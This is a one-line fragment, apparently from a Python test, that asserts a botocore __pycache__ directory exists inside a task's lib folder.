    assert (task / "lib" / "botocore" / "__pycache__").is_dir()
